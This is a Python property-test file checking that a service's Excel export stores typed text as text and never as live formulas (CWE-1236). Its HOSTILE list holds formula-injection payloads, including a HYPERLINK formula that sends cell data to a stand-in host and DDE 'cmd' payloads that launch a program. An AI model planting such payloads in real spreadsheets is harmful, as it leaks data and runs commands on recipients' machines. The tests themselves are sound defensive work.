"""Every .xlsx the service writes keeps what people typed as text: a name starting with "=" opens as
that name, never as a live formula (CWE-1236), and any string at all comes back equal to what was
written, less the replacements documented in backend/core/workbook.py."""

from __future__ import annotations

import io
import re
import zipfile

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from backend.core.workbook import Table, xlsx_bytes
from tests.xlsx_support import read_workbook

HOSTILE = [
    '=HYPERLINK("http://x?x="&C2,"点击")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "=1+1",
    "#N/A",
    "#DIV/0!",
    "=",
    " =1",
    "_x0041_",
    "某\x03人",
    "a\ufffeb\uffff",
    "\ud800=1",
    "\udfff\ud83d",
    "多行\r\n文本\r",
    "网\u202e吧\u2028\x85\ufeff",
]
# Any code point, surrogates and noncharacters included (hypothesis leaves surrogates out by default).
ANY_CHAR = st.characters(min_codepoint=0, max_codepoint=0x10FFFF, exclude_categories=())
TEXT = st.one_of(st.sampled_from(HOSTILE), st.text(ANY_CHAR, max_size=60),
                 st.builds(lambda a, b: a + b, st.sampled_from(HOSTILE), st.text(ANY_CHAR, max_size=20)))


def expected(text: str) -> str | None:
    """The documented replacements, written out independently of the writer."""
    text = text.replace("\r\n", "\n").replace("\r", "\n")
    text = "".join("" if (ord(c) < 0x20 and c not in "\t\n") or 0x7F <= ord(c) <= 0x9F or 0xD800 <= ord(c) <= 0xDFFF
                   or 0x2028 <= ord(c) <= 0x202E or 0x2066 <= ord(c) <= 0x2069 or c in "\ufeff\ufffe\uffff"
                   else c for c in text)
    units, out = 0, []
    for c in text:
        units += 2 if ord(c) > 0xFFFF else 1
        if units > 32_767:
            break
        out.append(c)
    return "".join(out) or None


def formulas(content: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [name for name in archive.namelist()
                if name.startswith("xl/worksheets/") and re.search(rb"<f[ >]", archive.read(name))]


def read_back(content: bytes) -> list[list[tuple[object, str]]]:
    sheet = read_workbook(content).worksheets[0]
    return [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.lists(TEXT, min_size=1, max_size=5), min_size=1, max_size=5))
def test_any_text_reads_back_as_the_same_text_and_never_as_a_formula(rows: list[list[str]]) -> None:
    content = xlsx_bytes([Table("台账", ["姓名"] * 5, rows, captions=["附件1：", "重点未成年人摸排台账"])])
    assert formulas(content) == []
    got = read_back(content)[3:]
    for written, read in zip(rows, got, strict=True):
        for text, (value, data_type) in zip(written, read, strict=False):
            assert value == expected(text)
            assert value is None or data_type == "s"


@settings(max_examples=10, deadline=None)
@given(st.sampled_from(["a", "甲", "😀", "=", "\x07"]), st.integers(32_700, 40_000))
def test_text_beyond_excels_cell_limit_is_cut_there_and_never_inside_a_pair(char: str, n: int) -> None:
    text = "=" + char * n
    content = xlsx_bytes([Table("t", ["x"], [[text]])])
    value = read_back(content)[1][0][0]
    assert value == expected(text)
    assert isinstance(value, str) and len(value.encode("utf-16-le")) // 2 <= 32_767
    assert formulas(content) == []


def test_identifiers_given_as_numbers_are_written_as_text() -> None:
    content = xlsx_bytes([Table("t", ["身份证号码", "联系方式", "数量"],
                                [[990101201301289349, 13800000001.0, 3]], text_columns=frozenset({0, 1}))])
    assert read_back(content)[1] == [("990101201301289349", "s"), ("13800000001", "s"), (3, "n")]


def test_caption_rows_a_bold_frozen_header_and_widths() -> None:
    content = xlsx_bytes([Table("附件1", ["序号", "未成年人姓名"], [[1, "张一"]],
                                captions=["附件1：", "重点未成年人摸排台账"])])
    sheet = read_workbook(content).worksheets[0]
    assert [c.value for c in sheet[1]][:1] == ["附件1："] and sheet["A2"].value == "重点未成年人摸排台账"
    assert sheet["A3"].value == "序号" and sheet["B3"].font.b
    assert sheet.freeze_panes == "A4"
    assert (sheet.column_dimensions["B"].width or 0) >= 14
